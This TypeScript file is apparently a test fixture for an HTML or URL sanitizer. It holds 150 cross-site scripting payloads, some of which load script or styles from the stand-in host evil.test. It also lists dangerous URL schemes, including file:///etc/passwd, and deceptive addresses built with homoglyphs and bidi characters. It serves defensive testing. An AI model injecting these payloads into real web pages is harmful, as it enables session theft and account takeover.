/** The function that every payload calls. A page where it exists reports each call. */
export const fired = 'cairnFired';

const call = `${fired}()`;

/** Texts that become a script where a page takes them for HTML, an address, a style or a template. */
const vectors = [
  `<script>${call}</script>`,
  `<SCRIPT SRC=//evil.test/x.js></SCRIPT>`,
  `<script type=module>${call}</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<img src=x onerror=${call}>`,
  `<img src=x onerror="${call}"//`,
  `<IMG SRC="jav\tascript:${call}">`,
  `<img/src/onerror=${call}>`,
  `<img srcset=x onerror=${call}>`,
  `<svg onload=${call}>`,
  `<svg/onload=${call}//`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s></svg>`,
  `<svg><set attributeName=href to=javascript:${call}></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}>#x"></svg>`,
  `<svg><a xlink:href="javascript:${call}"><text y=9>x</text></a></svg>`,
  `<svg><foreignObject><iframe onload=${call}></foreignObject></svg>`,
  `<math><mtext></p><img src=x onerror=${call}></math>`,
  `<math href="javascript:${call}">x</math>`,
  `<body onload=${call}>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="javascript:${call}">`,
  `<a href="javascript:${call}">x</a>`,
  `<a href="&#106;avascript:${call}">x</a>`,
  `<a href="data:text/html,<script>${call}</script>">x</a>`,
  `<form action="javascript:${call}"><input type=submit autofocus></form>`,
  `<button formaction="javascript:${call}">x</button>`,
  `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}></select>`,
  `<textarea autofocus onfocus=${call}></textarea>`,
  `<details open ontoggle=${call}>`,
  `<video><source onerror=${call}></video>`,
  `<audio src=x onerror=${call}>`,
  `<marquee onstart=${call}>x</marquee>`,
  `<div onpointerover="${call}" style="position:fixed;inset:0">x</div>`,
  `<div style="background:url(javascript:${call})">x</div>`,
  `<style>@import "//evil.test/x.css"; body{x:expression(${call})}</style>`,
  `<link rel=stylesheet href="data:text/css,*{background:url(//evil.test)}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<base href="javascript:/${call}//">`,
  `<template><script>${call}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<!--><img src=x onerror=${call}>-->`,
  `<![CDATA[<img src=x onerror=${call}>]]>`,
  `\u0000<img src=x onerror=${call}>`,
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `javascript:${call}`,
];

/** How a vector leaves the attribute or the element that it was put into. */
const exits = ['', '"\'>', '</title></textarea></script></style></svg>'];

/** 150 different texts. */
export const payloads: readonly string[] = exits.flatMap((exit) => vectors.map((vector) => exit + vector));

/** Addresses that a browser must never be given. */
export const badAddresses: readonly string[] = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\nscript:${call}`,
  ` javascript:${call}`,
  `\u0001javascript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `vbscript:${call}`,
  `blob:https://evil.test/x`,
  `file:///etc/passwd`,
  `//evil.test/${call}`,
  `https:${call}`,
  `view-source:https://evil.test`,
];

/** Addresses that lead somewhere else than a quick look tells. */
export const deceptiveAddresses: readonly string[] = [
  'https://good.example.test@evil.test/login',
  `https://good.example.test${'%20'.repeat(80)}@evil.test/`,
  'https://ex\u0430mple.test/cyrillic',
  'https://\u202eevil.test/bidi',
  'http://evil.test:8080/\u200bhidden',
  `https://evil.test/${'a'.repeat(5000)}`,
  `https://evil.test/"onmouseover="${call}`,
  `https://evil.test/<script>${call}</script>`,
];
